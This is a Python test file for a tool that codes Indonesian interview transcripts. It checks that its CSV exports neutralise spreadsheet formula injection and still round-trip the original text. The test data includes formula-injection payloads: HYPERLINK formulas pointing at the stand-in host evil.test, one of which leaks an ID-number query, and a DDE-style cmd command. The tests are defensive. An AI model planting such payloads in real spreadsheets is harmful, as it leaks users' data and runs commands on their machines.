"""CSV tables a spreadsheet opens without running an informant's words as a formula
(CWE-1236), and that ektp-qual and R still read back as the words that were said."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from ektp_qual.cli import app
from ektp_qual.inputs.review_file import ReviewFile, decision_row, parse_review, read_review
from ektp_qual.inputs.spreadsheet import unescape_cell
from ektp_qual.outputs.export import csv_bytes

runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://evil.test/?q=nik";"Klik di sini")',
    "+SUM(1;2) kata saya, petugasnya ramah",
    "-2+3+cmd|' /C calc'!A0 petugasnya judes",
    "@SUM(1+1) antriannya panjang",
]


def _cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=delimiter))


def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with an unquoted cell: a formula unless it is a number."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    return False


def test_informants_words_are_never_a_formula_in_the_tables_and_raw_on_request(
    corpus_dir, mini_codebook, tmp_path, monkeypatch
):
    turns = []
    for text in HOSTILE:
        turns += [("P", "Bagaimana sikap petugas saat melayani?"), ("M1", text)]
    corpus = corpus_dir({"M1": ("masyarakat", turns)})
    monkeypatch.chdir(tmp_path)
    args = ["code", "-t", str(corpus), "-c", str(mini_codebook), "-q", "--no-review"]
    safe = runner.invoke(app, [*args, "-o", "safe"])
    assert safe.exit_code == 0, safe.output

    segments = (tmp_path / "safe" / "segments.csv").read_bytes()
    cells = [cell for row in _cells(segments) for cell in row]
    assert not [cell for cell in cells if _runs_as_formula(cell)]
    for text in HOSTILE:  # quoted and prefixed, the OWASP way
        assert ("\"'" + text.replace('"', '""') + '"').encode() in segments
    codings = _cells((tmp_path / "safe" / "codings.csv").read_bytes())
    assert "'" + HOSTILE[2] in [row[codings[0].index("text")] for row in codings[1:]]

    # ektp-qual reads its own tables back as the words that were said
    again = read_review(tmp_path / "safe" / "codings.csv", codings=True)
    text_column = again.names.index("text")
    assert {row[text_column] for row in again.rows} <= set(HOSTILE)
    assert {row[text_column] for row in again.rows} >= {HOSTILE[2], HOSTILE[3]}

    raw = runner.invoke(app, [*args, "-o", "raw", "--csv", "raw"])
    assert raw.exit_code == 0, raw.output
    table = pd.read_csv(tmp_path / "raw" / "segments.csv")
    assert table["text"].tolist() == HOSTILE
    assert pd.api.types.is_integer_dtype(table["start"])

    wrong = runner.invoke(app, [*args, "-o", "other", "--csv", "excel"])
    assert wrong.exit_code == 2 and "--csv: unknown value 'excel'" in wrong.output


def test_numbers_stay_numbers_in_a_safe_table():
    table = pd.DataFrame(
        {"criterion": ["attitude", "-note"], "share": [-0.5, 0.25], "delta": ["-3", "-1e-3"]}
    )
    rows = _cells(csv_bytes(table))
    assert rows == [
        ["criterion", "share", "delta"],
        ["attitude", "-0.5", "-3"],
        ["'-note", "0.25", "-1e-3"],
    ]
    assert pd.read_csv(io.BytesIO(csv_bytes(table)))["share"].tolist() == [-0.5, 0.25]


def test_a_coders_name_in_the_review_file_is_never_a_formula(corpus_dir, mini_codebook, tmp_path):
    corpus = corpus_dir(
        {"M1": ("masyarakat", [("P", "Bagaimana sikap petugas?"), ("M1", "Petugasnya ramah.")])}
    )
    path = tmp_path / "review.csv"
    coder = '=HYPERLINK("http://evil.test";"ana")'
    args = ["review", "-t", str(corpus), "-c", str(mini_codebook), "--review", str(path)]
    result = runner.invoke(app, [*args, "--coder", coder], input="a")
    assert result.exit_code == 0, result.output
    rows = _cells(path.read_bytes())
    assert rows[1][4] == "'" + coder
    assert read_review(path).decisions()["coder"].tolist() == [coder]


cell_text = st.text(alphabet=st.sampled_from([*"'=+-@\t\r\n\",;0.5eEa "]), max_size=8)


@settings(max_examples=300, deadline=None)
@given(st.lists(cell_text, min_size=1, max_size=4))
def test_a_table_round_trips_and_no_cell_runs(cells):
    """A codings table read back by 'agree' has the text it was written with."""
    table = pd.DataFrame(
        {"segment_id": ["M1-a"], "criterion": ["attitude"], "polarity": ["positive"]}
        | {f"note{n}": [cell] for n, cell in enumerate(cells)}
    )
    data = csv_bytes(table)
    assert not [cell for row in _cells(data) for cell in row if _runs_as_formula(cell)]
    back = parse_review(data.decode("utf-8"), codings=True)
    assert list(back.rows[0][3:]) == cells


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(cell_text, st.none(), st.integers(-9, 9)), min_size=1, max_size=12))
def test_a_column_of_many_rows_round_trips_and_no_cell_runs(cells):
    """Each row of a long column is looked at, whatever else the column holds (empty
    cells, numbers), as a survey's tables of many sentences are."""
    table = pd.DataFrame({"segment_id": [f"M1-{n}" for n in range(len(cells))]})
    table["note"] = pd.Series(cells, dtype=object)
    data = csv_bytes(table)
    rows = _cells(data)[1:]
    assert not [cell for row in rows for cell in row if _runs_as_formula(cell)]
    expected = ["" if cell is None else str(cell) for cell in cells]
    assert [unescape_cell(row[1]) for row in rows] == expected


@settings(max_examples=300, deadline=None)
@given(cell_text, st.sampled_from([",", ";", "\t"]), st.sampled_from(["\n", "\r\n"]))
def test_a_review_file_round_trips_every_note(note, delimiter, newline):
    review = ReviewFile(delimiter=delimiter, newline=newline).with_decisions(
        [decision_row("M1-a", "attitude", "positive", "accept", "ana", note=note)]
    )
    text = review.to_text()
    cells = [c for row in _cells(text.encode(), delimiter) for c in row]
    assert not [cell for cell in cells if _runs_as_formula(cell)]
    again = parse_review(text)
    assert again.rows == review.rows
    assert again.to_text() == text


@settings(max_examples=200, deadline=None)
@given(st.lists(cell_text, min_size=1, max_size=4), st.booleans())
def test_every_cell_reads_back_from_raw_and_safe_tables(cells, safe):
    """A carriage return inside a cell is quoted too, or readers take it for a line end."""
    table = pd.DataFrame({"n": [-0.5], **{f"c{k}": [cell] for k, cell in enumerate(cells)}})
    rows = _cells(csv_bytes(table, safe=safe))
    back = rows[1][1:] if not safe else [unescape_cell(cell) for cell in rows[1][1:]]
    assert len(rows) == 2 and rows[1][0] == "-0.5" and back == cells
